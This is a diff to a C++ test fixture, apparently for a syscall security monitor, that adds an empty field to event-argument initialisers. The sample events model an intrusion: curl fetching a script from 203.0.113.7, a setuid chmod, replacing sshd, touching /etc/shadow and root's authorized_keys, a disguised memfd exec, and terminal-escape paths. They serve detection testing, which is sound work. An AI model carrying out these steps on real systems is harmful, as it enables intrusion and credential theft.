@@ -59,7 +59,7 @@ EventArgs ArgsFor(Op op) {
     case Op::kFork: return ForkArgs{4242, 4242, kSigchld, kBootNs + 10};
     case Op::kExec:
       return ExecArgs{"/usr/bin/curl", "", "/root",
-                      {"curl", "-fsSL", "http://203.0.113.7/x.sh", "-o", "/tmp/x.sh"}, 5, 0};
+                      {"curl", "-fsSL", "http://203.0.113.7/x.sh", "-o", "/tmp/x.sh"}, 5, 0, ""};
     case Op::kExit: return ExitArgs{0, 9};  // killed by SIGKILL
     case Op::kCapset: return CredArgs{3, kIdUnchanged, kIdUnchanged, 0, 0, 0x200000ull};
     case Op::kCredChange:
@@ -101,13 +101,13 @@ EventArgs ArgsFor(Op op) {
     return FileArgs{"/tmp/.x", "", 0x80000, 0, kIdUnchanged, kIdUnchanged, "/etc/shadow"};
   }
   if (op == Op::kRename)
-    return FileArgs{"/tmp/.x", "/usr/bin/sshd", 0, 0, kIdUnchanged, kIdUnchanged};
-  if (op == Op::kChmod) return FileArgs{"/tmp/x.sh", "", 0, 04755, kIdUnchanged, kIdUnchanged};
-  if (op == Op::kChown) return FileArgs{"/tmp/x.sh", "", 0, 0, 0, 0};
+    return FileArgs{"/tmp/.x", "/usr/bin/sshd", 0, 0, kIdUnchanged, kIdUnchanged, ""};
+  if (op == Op::kChmod) return FileArgs{"/tmp/x.sh", "", 0, 04755, kIdUnchanged, kIdUnchanged, ""};
+  if (op == Op::kChown) return FileArgs{"/tmp/x.sh", "", 0, 0, 0, 0, ""};
   if (op == Op::kSymlink)
-    return FileArgs{"/tmp/l", "/etc/passwd", 0, 0, kIdUnchanged, kIdUnchanged};
+    return FileArgs{"/tmp/l", "/etc/passwd", 0, 0, kIdUnchanged, kIdUnchanged, ""};
   if (in(Op::kOpen, Op::kMknod))
-    return FileArgs{"/var/tmp/f", "", 0, 0644, kIdUnchanged, kIdUnchanged};
+    return FileArgs{"/var/tmp/f", "", 0, 0644, kIdUnchanged, kIdUnchanged, ""};
   if (op == Op::kMemfdCreate) return MemoryArgs{0, 0, 0, 1, -1, "pwn"};  // MFD_CLOEXEC
   if (in(Op::kMprotect, Op::kMmap)) return MemoryArgs{0x7f0000000000, 8192, 7, 0x22, -1, ""};
   if (op == Op::kConnect) return NetArgs{kAfInet, 443, 0, 0xcb007107, "", 3, 0};  // 203.0.113.7
@@ -144,34 +144,35 @@ std::vector<Event> SampleEventsOfEveryFamily() {
   add(Op::kConnect, NetArgs{kAfUnix, 0, 0, 0, "/run/containerd/containerd.sock", 6, 0}, shell);
   add(Op::kConnect, NetArgs{kAfUnix, 0, 0, 0, "@/tmp/.X11-unix/X0", 6, 0}, shell, -111);
   add(Op::kExec, ExecArgs{"/memfd:pwn (deleted)", "", "/", {"[kworker/0:0]"}, 1,
-                          kExecFlagMemfd | kExecFlagDeleted}, shell);
+                          kExecFlagMemfd | kExecFlagDeleted, ""}, shell);
   add(Op::kExec, ExecArgs{"/tmp/x.sh", "/bin/sh", "/tmp", {"/bin/sh", "/tmp/x.sh", ""}, 4,
                           kExecFlagArgvTruncated, "/usr/bin/dash"}, shell);
-  add(Op::kExec, ExecArgs{"/usr/bin/sudo", "", "/home/alice", {}, 0, kExecFlagSetuid}, daemon);
+  add(Op::kExec, ExecArgs{"/usr/bin/sudo", "", "/home/alice", {}, 0, kExecFlagSetuid, ""}, daemon);
   add(Op::kExit, ExitArgs{139, 11}, shell);  // SIGSEGV, core dumped
   add(Op::kExit, ExitArgs{1, 0}, daemon);
   add(Op::kOpen,
-      FileArgs{"/root/.ssh/authorized_keys", "", 0x441, 0600, kIdUnchanged, kIdUnchanged}, shell,
-      -13);
+      FileArgs{"/root/.ssh/authorized_keys", "", 0x441, 0600, kIdUnchanged, kIdUnchanged, ""},
+      shell, -13);
   add(Op::kSetuid, NoArgs{}, shell);  // an op whose arguments were not kept
 
   // Hostile bytes: paths are bytes, not UTF-8, and end up on an analyst's terminal.
-  add(Op::kOpen, FileArgs{"/tmp/\xff\xfe\xc3(invalid utf-8", "", 0, 0, kIdUnchanged, kIdUnchanged},
+  add(Op::kOpen,
+      FileArgs{"/tmp/\xff\xfe\xc3(invalid utf-8", "", 0, 0, kIdUnchanged, kIdUnchanged, ""},
       shell);
   add(Op::kOpen,
-      FileArgs{std::string("/tmp/a\0b/embedded-nul", 21), "", 0, 0, kIdUnchanged, kIdUnchanged},
+      FileArgs{std::string("/tmp/a\0b/embedded-nul", 21), "", 0, 0, kIdUnchanged, kIdUnchanged, ""},
       shell);
   add(Op::kUnlink,
-      FileArgs{"/tmp/\x1b[31mred\x1b[0m\x1b]0;owned\x07", "", 0, 0, kIdUnchanged, kIdUnchanged},
+      FileArgs{"/tmp/\x1b[31mred\x1b[0m\x1b]0;owned\x07", "", 0, 0, kIdUnchanged, kIdUnchanged, ""},
       shell);
   std::string long_path = "/";
   while (long_path.size() < 4096) long_path += "deep/";
   long_path.resize(4096);
-  add(Op::kOpen, FileArgs{long_path, "", 0, 0, kIdUnchanged, kIdUnchanged}, shell, -36);
+  add(Op::kOpen, FileArgs{long_path, "", 0, 0, kIdUnchanged, kIdUnchanged, ""}, shell, -36);
   TaskContext odd = shell;
   odd.comm = "\x1b[2J\xff";
   add(Op::kExec, ExecArgs{"/bin/\x1b[8m", "", std::string("/\0/", 3),
-                          {std::string("a\xff", 2), "\x1b[31m", "--x=\"y\""}, 3, 0}, odd);
+                          {std::string("a\xff", 2), "\x1b[31m", "--x=\"y\""}, 3, 0, ""}, odd);
   return events;
 }
 
@@ -342,12 +343,12 @@ std::vector<Event> SyntheticMix(size_t n, uint64_t seed) {
       e.op = Op::kOpen;
       e.ret = pick < 65 ? 3 + static_cast<int64_t>((r >> 32) % 20) : -2;
       e.args = FileArgs{kPaths[(r >> 32) % kPaths.size()], "", 0x80000, 0, kIdUnchanged,
-                        kIdUnchanged};
+                        kIdUnchanged, ""};
     } else if (pick < 78) {
       const auto& argv = kArgvs[(r >> 32) % kArgvs.size()];
       e.op = Op::kExec;
       e.args = ExecArgs{"/usr/bin/" + argv[0].substr(argv[0].rfind('/') + 1), "", "/app", argv,
-                        static_cast<uint32_t>(argv.size()), 0};
+                        static_cast<uint32_t>(argv.size()), 0, ""};
     } else if (pick < 85) {
       e.op = Op::kConnect;
       e.ret = pick < 84 ? 0 : -111;
